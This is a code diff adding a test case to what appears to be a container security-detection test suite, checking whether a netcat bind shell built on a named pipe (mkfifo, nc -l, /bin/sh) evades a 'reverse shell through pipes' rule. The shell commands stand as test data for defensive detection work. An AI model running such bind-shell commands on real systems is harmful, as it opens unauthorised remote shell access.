@@ -38,6 +38,8 @@ SENSITIVE = "Read sensitive file untrusted"
 STDIO = "Redirect stdio to network connection"
 METADATA_RULE = "Contact cloud metadata service from container"
 SETID = "Set setuid or setgid bit"
+FIFO_LISTENER = ("mkfifo /tmp/f; /usr/bin/nc -l -p 4445 < /tmp/f | {prog} > /tmp/f &"
+                 " /bin/sleep 0.5; echo exit | /usr/bin/nc -w 2 127.0.0.1 4445")
 
 
 def asked(ev: Event) -> str:
@@ -188,6 +190,11 @@ EVASIONS = [
                " > /tmp/f"), "container.image", TEST_IMAGE,
             sh("mkfifo /tmp/f; (echo id > /tmp/f &); /bin/sh < /tmp/f | /bin/cat"),
             exec_asked("/bin/cat")),
+    # a bind shell that dups no socket: the relay accepts instead of connecting (the client is
+    # in the same container, over its own loopback)
+    Evasion("bind-shell-through-a-fifo", "Reverse shell through pipes",
+            sh(FIFO_LISTENER.format(prog="/bin/sh")), "container.image", TEST_IMAGE,
+            sh(FIFO_LISTENER.format(prog="/bin/cat")), exec_asked("/bin/cat")),
 ]  # fmt: skip
 INT80_SIGPROCMASK = evade("int80-sigprocmask")
 
